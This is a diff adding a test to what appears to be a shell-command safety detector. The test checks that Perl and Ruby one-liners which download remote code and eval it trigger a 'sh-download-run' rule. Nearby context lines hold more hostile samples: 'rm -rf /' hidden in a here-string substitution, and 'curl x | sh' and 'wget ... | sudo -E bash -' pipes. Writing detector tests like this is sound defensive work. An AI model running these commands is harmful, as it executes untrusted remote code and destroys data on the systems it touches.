@@ -201,6 +201,12 @@ TEST(ShellText, AHereStringMayStandBehindARedirection) {
                             "cat > x <<< \"$(rm -rf /)\"", "cat > x <<< $(rm -rf /)"});
 }
 
+TEST(ShellDownloads, AreNotEvaluatedByOtherLanguages) {
+  ExpectEach("sh-download-run", {"perl -MLWP::Simple -e 'eval get(\"http://x\")'",
+                                 "ruby -ropen-uri -e 'eval URI.open(\"https://x\").read'"});
+  ExpectCalm({"perl -e 'print eval(\"1+1\")'", "ruby -e 'puts \"http://x\"'"});
+}
+
 TEST(ShellDownloads, AreNotRun) {
   ExpectEach("sh-download-run", {"curl x | sh",
                                  "wget -qO- x | sudo -E bash -",
